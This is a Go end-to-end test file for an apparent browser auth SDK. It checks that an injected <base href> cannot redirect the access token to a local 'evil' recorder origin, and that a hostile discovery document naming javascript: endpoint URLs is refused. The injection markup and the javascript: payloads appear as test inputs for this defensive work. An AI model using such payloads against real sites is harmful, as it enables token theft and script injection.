package e2e

import (
	"context"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/security"
	"github.com/chromedp/chromedp"
	"github.com/wasmgear/wasmgear/devidp"
	"github.com/wasmgear/wasmgear/internal/devserver"
)

// startTLSOriginRecorder is an originRecorder served over https on 127.0.0.1 (a
// self-signed certificate the tab is told to accept): the kind of origin the old default
// sent the token to.
func startTLSOriginRecorder(t *testing.T, tb *tab, appOrigin string) *originRecorder {
	t.Helper()
	rec := &originRecorder{}
	srv := httptest.NewTLSServer(rec.handler(appOrigin))
	t.Cleanup(srv.Close)
	rec.URL = srv.URL
	tb.run(chromedp.ActionFunc(func(ctx context.Context) error { return security.SetIgnoreCertificateErrors(true).Do(ctx) }))
	return rec
}

func TestHardening_AnInjectedBaseHrefCannotCarryTheTokenAway(t *testing.T) {
	t.Parallel()
	srv := startApp(t, devserver.Config{})
	tb := openTab(t, newBrowserContext(t), srv.AppURL+"/")
	loginThroughForm(t, tb, "alice", "wonderland")
	evil := startTLSOriginRecorder(t, tb, srv.AppURL)
	var token string
	tb.eval(`authgear.accessToken`, &token)

	// Markup injection, no script: a <base> makes the app's relative URLs point elsewhere.
	tb.eval(`document.head.insertAdjacentHTML("afterbegin", '<base href="`+evil.URL+`/">'), document.baseURI`, nil)
	var got fetchResult
	for range 2 {
		tb.eval(fetchJS(`"/api/me"`), &got)
	}
	seen := evil.requests()
	if got.Status != 200 || len(seen) != 2 || seen[0].Path != "/api/me" {
		t.Fatalf("the base href did not redirect the request: status %d, the other origin saw %+v", got.Status, seen)
	}
	for _, r := range seen {
		if r.Authorization != "" {
			t.Fatalf("the token went to %s through an injected <base href>: %s", evil.URL, r)
		}
	}
	var warned []string
	for _, w := range tb.warningsSeen() {
		if strings.Contains(w, evil.URL) {
			warned = append(warned, w)
		}
	}
	if len(warned) != 1 || !strings.Contains(warned[0], "apiOrigins") || strings.Contains(warned[0], token) {
		t.Fatalf("warnings naming %s: %q; want exactly one, naming apiOrigins and never the token", evil.URL, warned)
	}
	// Listed, the same origin gets it: the warning told the developer how.
	tb.eval(`authgear.configure({ clientID: `+jsString(srv.ClientID)+`, endpoint: `+jsString(srv.IdPURL)+
		`, apiOrigins: [`+jsString(evil.URL)+`] })`, nil)
	tb.eval(fetchJS(`"/api/me"`), &got)
	if seen := evil.requests(); len(seen) != 3 || seen[2].Authorization != sdkAuthorization(token) {
		t.Fatalf("a listed origin did not get the token: %+v", seen)
	}
}

// hostileDiscovery makes the provider's discovery document name script URLs.
func hostileDiscovery(t *testing.T, srv *devserver.Server) {
	t.Helper()
	doc := `{"issuer":` + jsString(srv.IdPURL) + `,` +
		`"authorization_endpoint":"javascript:window.pwned='authorize'//",` +
		`"token_endpoint":` + jsString(srv.IdPURL+"/oauth2/token") + `,` +
		`"revocation_endpoint":` + jsString(srv.IdPURL+"/oauth2/revoke") + `,` +
		`"end_session_endpoint":"javascript:window.pwned='end_session'//"}`
	srv.IdP.InjectFault(devidp.Fault{Endpoint: "discovery", Kind: devidp.FaultBody, Body: doc, Times: 1000})
}

func TestHardening_AJavascriptEndpointIsNeverNavigatedTo(t *testing.T) {
	t.Parallel()
	srv := startApp(t, devserver.Config{})
	tb := openTab(t, newBrowserContext(t), srv.AppURL+"/")
	loginThroughForm(t, tb, "alice", "wonderland")
	// A new page: a new module, whose discovery is fetched afresh from the hostile provider.
	tb.run(chromedp.Reload())
	tb.waitForPage(srv.AppURL, `typeof demo !== "undefined" && authgear.sessionState === "AUTHENTICATED"`, 20*time.Second)
	hostileDiscovery(t, srv)
	for _, call := range []string{
		`authgear.startAuthentication({ redirectURI: demo.redirectURI })`,
		`authgear.logout({ redirectURI: demo.redirectURI })`,
	} {
		fail := tb.evalError(call)
		var pwned string
		tb.eval(`String(window.pwned || "")`, &pwned)
		if !fail.Rejected || fail.Code != "invalid_discovery" || !fail.IsAuthgear || pwned != "" {
			t.Fatalf("%s: %+v, script ran: %q; want AuthgearError invalid_discovery and no navigation", call, fail, pwned)
		}
		if fail.SessionState != "AUTHENTICATED" {
			t.Fatalf("%s: session %s, want it kept", call, fail.SessionState)
		}
	}
	if n := srv.IdP.Counts()["revoke"]; n != 0 {
		t.Fatalf("the refresh token was sent to the revocation endpoint of a refused document (%d times)", n)
	}
}
